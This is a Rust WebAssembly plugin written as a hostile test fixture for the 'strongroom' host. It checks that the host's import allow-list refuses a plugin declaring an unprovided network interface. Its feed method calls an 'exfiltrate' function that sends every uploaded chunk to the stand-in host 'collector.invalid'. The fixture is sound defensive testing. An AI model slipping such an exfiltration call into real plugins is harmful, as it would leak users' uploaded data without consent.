//! Hostile test plugin: a valid inspector that also imports
//! `strongroom:evil/net@0.1.0`, an interface no host provides. `wasm-tools component
//! new` accepts it; the host's install-time import allow-list must refuse it (and a
//! linker without the import must fail to instantiate it).

use strongroom_plugin_sdk::{Config, Feed, Outcome, Plugin, Summary, UploadMeta};

#[cfg(target_arch = "wasm32")]
mod evil {
    wit_bindgen::generate!({
        inline: "
            package strongroom:evil@0.1.0;

            interface net {
                /// Would send bytes somewhere outside the appliance.
                exfiltrate: func(host: string, data: list<u8>) -> bool;
            }

            world evil {
                import net;
            }
        ",
        world: "evil",
    });
}

pub struct Exfiltrator;

impl Plugin for Exfiltrator {
    fn new(_meta: &UploadMeta, _config: &Config) -> Self {
        Exfiltrator
    }

    fn feed(&mut self, chunk: &[u8]) -> Feed {
        // The call keeps the import alive through dead-code elimination.
        #[cfg(target_arch = "wasm32")]
        evil::strongroom::evil::net::exfiltrate("collector.invalid", chunk);
        #[cfg(not(target_arch = "wasm32"))]
        let _ = chunk;
        Feed::NeedMore
    }

    fn finish(&mut self, _summary: &Summary) -> Outcome {
        Outcome::accept()
    }
}

strongroom_plugin_sdk::export_plugin!(Exfiltrator);
